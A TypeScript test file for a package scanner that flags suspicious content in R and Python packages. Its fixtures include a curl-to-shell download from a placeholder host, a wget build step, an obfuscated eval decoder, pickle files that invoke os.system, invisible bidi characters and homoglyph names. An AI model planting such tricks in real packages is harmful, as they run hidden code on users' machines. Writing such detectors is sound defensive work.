import { createHash } from "node:crypto";
import type { Signal } from "@packhouse/contract/review/inspection";
import type { SignalId } from "@packhouse/contract/review/signals";
import { describe, expect, test } from "vitest";
import { inspect } from "../inspect.ts";
import { packed, rPackage, sdist } from "../testing/packages.ts";
import { fileRules } from "./file-rules.ts";

type Files = Record<string, string | Uint8Array>;

interface Fixture {
  /** Files that the rule notices, and what it says about them: level, file, line, subject. */
  noticed: { files: Files; mtime?: Date; as: string[] };
  /** Files of the same kind that are as they should be. */
  fine: Files;
}

/** Bytes without any pattern, the same in each run. */
const noise = (length: number, seed = "tides"): Buffer => {
  const parts: Buffer[] = [];
  for (let index = 0; index * 32 < length; index += 1)
    parts.push(createHash("sha256").update(`${seed}${index}`).digest());
  return Buffer.concat(parts).subarray(0, length);
};
const base64 = (length: number) => noise(length).toString("base64").replaceAll("\n", "");
const png = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.from("0000000049454e44ae426082", "hex")]);
const elf = Buffer.concat([Buffer.from("7f454c460201010000", "hex"), Buffer.alloc(60)]);
/** Put together here, so that no one takes them for real ones. */
const tokenOf = (prefix: string, length: number) => prefix + noise(length).toString("hex").slice(0, length);
const key = (kind: string) => `-----BEGIN ${kind}-----\n${base64(60)}\n${base64(60)}\n-----END ${kind}-----\n`;
const chunks = (text: string) => text.match(/.{1,60}/g) ?? [];

const fixtures: Partial<Record<SignalId, Fixture>> = {
  host: {
    noticed: {
      files: {
        "R/a.R":
          'url <- "https://user@Collector.test.dev:8080/x?y"\nagain <- "http://collector.test.dev/"\nip <- "203.0.113.9:4444"\n',
      },
      as: ["notice R/a.R 1 collector.test.dev", "notice R/a.R 3 203.0.113.9"],
    },
    fine: {
      "R/a.R":
        '# https://commented.test.dev\n#\' @source https://documented.test.dev\nx <- "https://doi.org/10.1/2"\nv <- "1.2.3.4"\nl <- "http://127.0.0.1:80"\n',
      "README.md": "See https://tides.test.dev\n",
      "R/b.R": 'u <- sprintf("https://%s/x", host)\nw <- "http://localhost:80"\nn <- "//no.scheme.dev"\n',
    },
  },
  "encoded-text": {
    noticed: {
      files: {
        "R/a.R": `x <- "${base64(400)}"\n`,
        "R/b.R": `y <- "${"\\x41\\x9f".repeat(40)}"\n`,
        "R/c.R": `z <- "${noise(200).toString("hex")}"\n`,
        "R/d.R": `x <- paste0(\n${chunks(base64(600))
          .map((chunk) => `  "${chunk}",\n`)
          .join("")}"")\n`,
        "tests/a.R": `x <- "${base64(400)}"\n`,
        "e.py": `ICON = "iVBORw0KGgo${base64(400)}"\n`,
      },
      as: [
        "notice e.py 1 base64",
        ...["warning R/a.R 1 base64", "warning R/b.R 1 escapes", "warning R/c.R 1 hex", "warning R/d.R 2 base64"],
        "notice tests/a.R 1 base64",
      ],
    },
    fine: {
      "R/a.R": `icon <- "data:image/png;base64,${base64(900)}"\nrule <- "${"=".repeat(400)}"\nz <- "${"0".repeat(400)}"\n`,
      "R/b.R": 'name <- "\\x41\\x42"\n',
      "R/c.R": `cert <- "-----BEGIN CERTIFICATE-----\n${chunks(base64(600)).join("\n")}\n"\n`,
      "inst/data.csv": `${base64(400)}\n`,
    },
  },
  "high-entropy": {
    noticed: {
      files: { "inst/a.bin": noise(4096), "inst/small": noise(1500) },
      as: ["warning inst/a.bin  a.bin", "warning inst/small  small"],
    },
    fine: {
      "inst/a.bin": Buffer.from(Uint8Array.from({ length: 4096 }, (_, index) => (index * index) % 97)),
      "inst/font.woff2": Buffer.concat([Buffer.from("wOF2"), noise(4096)]),
      "inst/tiny": noise(300),
    },
  },
  "long-line": {
    noticed: {
      files: { "R/a.R": `a\nx <- c(${"1, ".repeat(2000)}2)\n`, "R/b.R": `x <- 1;${" ".repeat(300)}y()\n` },
      as: ["notice R/a.R 2 ", "notice R/b.R 1 blanks"],
    },
    fine: { "data/a.csv": "1,".repeat(4000), "R/a.R": `x <- 1 ${" ".repeat(400)}\n${" ".repeat(300)}y\n` },
  },
  "invisible-characters": {
    noticed: {
      files: {
        "R/a.R": 'level <- "user\u202e"\n',
        "R/b.R": "pass\u200bword <- 1\n",
        "R/c.R": "# \u2066 hidden\n",
        "d.py": "pass\u200fword = 1\n",
        "e.py": 'x = "\ufeff"\ny = "[\u200b]"\n',
      },
      as: [
        "danger R/a.R 1 U+202E",
        "danger R/b.R 1 U+200B",
        "danger R/c.R 1 U+2066",
        "danger d.py 1 U+200F",
        "notice e.py 1 U+FEFF",
        "notice e.py 2 U+200B",
      ],
    },
    fine: {
      "R/a.R": '\ufefffamily <- "👩\u200d👧"\n# a\u200bb\n',
      "man/a.Rd": "\u202a\n",
      "R/b.R": "x <- '\\u202e'\n",
      "formats.py": 'FORMAT = "Y/n/j\u060c\u200f G:i"\n',
    },
  },
  "mixed-scripts": {
    noticed: {
      files: { "R/a.R": "p\u0430ssword <- 1\n", "setup.py": "import os\n\u{1D42C}\u{1D432}\u{1D42C}\u{1D42D} = 1\n" },
      as: ["warning R/a.R 1 p\u0430ssword", "warning setup.py 2 \u{1D42C}\u{1D432}\u{1D42C}\u{1D42D}"],
    },
    fine: { "R/a.R": "Δx <- σ_1\nслово <- 1\n# p\u0430ssword\nμm <- 1\n" },
  },
  "content-differs-from-name": {
    noticed: {
      files: {
        ...{ "inst/logo.png": elf, "R/a.R": noise(200), "data/a.rda": "text\n", "inst/a.dat": elf },
        "inst/b.pdf": Buffer.from("504b0304", "hex"),
        "inst/c.png": Buffer.concat([png, Buffer.from("504b030414000000", "hex")]),
      },
      as: [
        ...[
          "warning R/a.R  other",
          "warning data/a.rda  text",
          "warning inst/a.dat  elf",
          "warning inst/b.pdf  archive",
          "warning inst/c.png  archive",
        ],
        "warning inst/logo.png  elf",
      ],
    },
    fine: {
      ...{
        "inst/logo.png": Buffer.from("89504e470d0a1a0a", "hex"),
        "inst/icon.png": png,
        "libs/a.so": elf,
        "libs/a.so.1.2": elf,
        "R/a.R": "",
      },
      ...{
        "data/a.rds": Buffer.from("580a000000030004", "hex"),
        "data/b.csv": Buffer.from("1f8b0800", "hex"),
        tool: elf,
      },
    },
  },
  "new-executable": {
    noticed: {
      files: { "libs/tides-0a1b2c3d.so.1": elf, "tides-1.0.1.data/scripts/tides": elf },
      as: [
        "warning libs/tides-0a1b2c3d.so.1  libs/tides",
        "warning tides-1.0.1.data/scripts/tides  .data/scripts/tides",
      ],
    },
    fine: { "libs/tides.c": "int x;\n" },
  },
  process: {
    noticed: {
      files: {
        "src/a.c": '#include <stdlib.h>\nint a(void) { return system("id"); }\nint b(void) { return system("w"); }\n',
        "src/b.cpp": "void b() { std::system(c); FILE *p = popen(c, m); }\n",
        "src/d.c": "int d(char c) { return c == '\"' || fork() ? c : 0; }\n",
        "src/rust/build.rs": 'fn main() { std::process::Command::new("sh"); }\n',
        "tests/c.c": "int c(void) { return execv(p, a); }\n",
      },
      as: [
        ...[
          "warning src/a.c 2 system",
          "warning src/b.cpp 1 popen",
          "warning src/d.c 1 fork",
          "warning src/rust/build.rs 1 Command::new",
        ],
        "notice tests/c.c 1 execv",
      ],
    },
    fine: {
      "src/a.c":
        '/* system("id") */\nint system(const char *command);\nx->system(1); y.popen(2); // fork()\nputs("system(1)");\n',
      "src/b.cpp": "solver::system(a); operating_system(b); int file_system(int n);\n",
      "NEWS.md": "system(x)\n",
    },
  },
  network: {
    noticed: {
      files: {
        "src/a.c": "int s = socket(AF_INET, SOCK_STREAM, 0);\ngetaddrinfo(h, p, &i, &r);\n",
        "src/b.rs": 'let s = TcpStream::connect("a:1");\n',
      },
      as: ["warning src/a.c 1 socket", "warning src/a.c 2 getaddrinfo", "warning src/b.rs 1 TcpStream::connect"],
    },
    fine: { "src/a.c": "/* socket(a) */ int websocket(int n); s->socket(1);\n" },
  },
  "native-constructor": {
    noticed: {
      files: {
        "src/a.c": "__attribute__((constructor)) static void begin(void) {}\n",
        "src/b.c": "BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) { return 1; }\n",
      },
      as: ["warning src/a.c 1 constructor", "warning src/b.c 1 DllMain"],
    },
    fine: { "src/a.c": "/* a constructor */ __attribute__((unused)) int x;\n// DllMain(\n" },
  },
  "build-script": {
    noticed: {
      files: {
        "configure.ac": "AC_INIT\ncurl -s https://a.test.dev/x | sh\n",
        "m4/a.m4": 'eval `sed "r" $path | tr "a" "b" | xz -d`\n',
        "src/CMakeLists.txt": 'execute_process(COMMAND sh -c "wget -O x https://a.test.dev")\n',
      },
      as: ["warning configure.ac 2 curl", "warning m4/a.m4 1 tr", "warning src/CMakeLists.txt 1 wget"],
    },
    fine: {
      "configure.ac": "dnl curl | sh\nAC_CHECK_PROG([CURL], [curl])\neval ac_value=$x\n",
      "CMakeLists.txt": "# wget | sh\nexecute_process(COMMAND git describe)\nfind_package(CURL)\n",
      "m4/a.m4": "gzip -d < a > b\n",
    },
  },
  "pickle-with-code": {
    noticed: {
      files: {
        "inst/a.pkl": Buffer.from("8002636f730a73797374656d0a71005802000000696471018571025271032e", "hex"),
        "inst/b.model": Buffer.from("80048c05706f736978948c0673797374656d9493948c02696494859452942e", "hex"),
        // The instruction before the name is a letter, too.
        "inst/c.pkl": Buffer.from("8002635f0a610a2952636f730a73797374656d0a2e", "hex"),
        // Kept and fetched again, with other instructions between.
        "inst/d.pkl": Buffer.from(
          "80048c05706f736978948c0269649430306800" + "8c0673797374656d9368018552" + "2e",
          "hex",
        ),
        "inst/e.rows": "cposix\nsystem\n(S'id'\ntR.",
      },
      as: [
        "danger inst/a.pkl  os.system",
        "danger inst/b.model  posix.system",
        "danger inst/c.pkl  os.system",
        "danger inst/d.pkl  posix.system",
        "danger inst/e.rows  posix.system",
      ],
    },
    fine: {
      "inst/a.pkl": Buffer.from("80027d710028550161714b0175550162714b02752e", "hex"),
      "inst/b.txt": "cos\nsystem\n",
    },
  },
  "private-key": {
    noticed: {
      files: {
        "inst/a.pem": key("RSA PRIVATE KEY"),
        "R/a.R": `k <- "${key("PRIVATE KEY")}"\n`,
        "tests/a.pem": key("EC PRIVATE KEY"),
      },
      as: ["danger R/a.R 1 ", "danger inst/a.pem 1 ", "notice tests/a.pem 1 "],
    },
    fine: { "R/a.R": 'grepl("-----BEGIN PRIVATE KEY-----", x)\n', "inst/a.pem": key("CERTIFICATE") },
  },
  token: {
    noticed: {
      files: {
        "R/a.R": `a <- "AKIA${noise(8).toString("hex").toUpperCase()}"\n`,
        "README.md": `x\n${tokenOf("ghp_", 36)}\n`,
        "tests/a.R": `${tokenOf("glpat-", 20)}\n`,
      },
      as: ["danger R/a.R 1 AWS", "danger README.md 2 GitHub", "notice tests/a.R 1 GitLab"],
    },
    fine: {
      "R/a.R": `"AKIAIOSFODNN7EXAMPLE"\n"ghp_${"x".repeat(36)}"\n"ghp_"\n"MAKIA${noise(8).toString("hex").toUpperCase()}"\n`,
    },
  },
  "environment-file": {
    noticed: {
      files: { ".env": "A=1\n", "tests/.netrc": "A=1\n", "inst/.Renviron": "A=1\n", "inst/.env.production": "A=1\n" },
      as: [
        "notice tests/.netrc  .netrc",
        "warning .env  .env",
        "warning inst/.Renviron  .Renviron",
        "warning inst/.env.production  .env.production",
      ],
    },
    fine: { ".env.example": "A=1\n", ".env": "\n", "R/env.R": "a\n" },
  },
  "left-over-file": {
    noticed: {
      files: { ".DS_Store": "a", "R/a.R~": "a\n", ".git/HEAD": "a\n", "R/._a.R": "a" },
      as: ["info .DS_Store  .DS_Store", "info .git/HEAD  HEAD", "info R/._a.R  ._a.R", "info R/a.R~  a.R~"],
    },
    fine: { "R/a.R": "a\n", ".Rbuildignore": "a\n" },
  },
  "builder-path": {
    noticed: {
      files: {
        "R/a.R": 'setwd("/Users/ida.moen/work")\nx\n"/Users/ida.moen/other"\n',
        "inst/a.txt": "C:\\Users\\bo\\x\n",
      },
      as: ["info R/a.R 1 /Users/ida.moen", "info inst/a.txt 1 C:\\Users\\bo"],
    },
    fine: { "R/a.R": '"/home/user/data"\n"https://test.dev/home/ida/x"\n"/home/$USER/"\n' },
  },
  "future-date": {
    noticed: { files: {}, mtime: new Date("2027-01-01"), as: ["notice DESCRIPTION  2027-01-01"] },
    fine: { "R/a.R": "a\n" },
  },
};

const now = packed.getTime();
const shown = ({ level, file, line, subject }: Signal): string => [level, file, line ?? "", subject].join(" ");

describe.for(fileRules)("the rule $id", ({ id }) => {
  const fixture = fixtures[id];
  const found = async (files: Files, mtime?: Date) => {
    const { source, ...what } = await rPackage(files, mtime ? { mtime } : {});
    return (await inspect(source, what, { now })).signals.filter((signal) => signal.id === id);
  };

  test("notices what it is about, and where", async () => {
    const noticed: Fixture["noticed"] = fixture?.noticed ?? { files: {}, as: ["a fixture"] };
    const { files, mtime, as } = noticed;
    expect((await found(files, mtime)).map(shown).sort()).toEqual(as.sort());
  });

  test("leaves alone what is as it should be", async () => {
    expect((await found(fixture?.fine ?? {})).map(shown)).toEqual([]);
  });
});

test("excerpts are short, and show the place in a long line", async () => {
  const line = `x <- c(${"1, ".repeat(1000)}"https://far.test.dev/")\n`;
  const { source, ...what } = await rPackage({ "R/a.R": line });
  const shared = new Set(fileRules.map(({ id }) => id));
  const signals = (await inspect(source, what)).signals.filter(({ id }) => shared.has(id));
  expect(signals.every(({ excerpt }) => (excerpt?.length ?? 0) <= 200)).toBe(true);
  expect(signals.find(({ id }) => id === "host")?.excerpt).toContain("far.test.dev");
});

test("a token is recognized, but not spread", async () => {
  const token = tokenOf("ghp_", 36);
  const { source, ...what } = await sdist({ "a.py": `t = "${token}"\n` });
  expect(JSON.stringify((await inspect(source, what)).signals)).not.toContain(token);
});
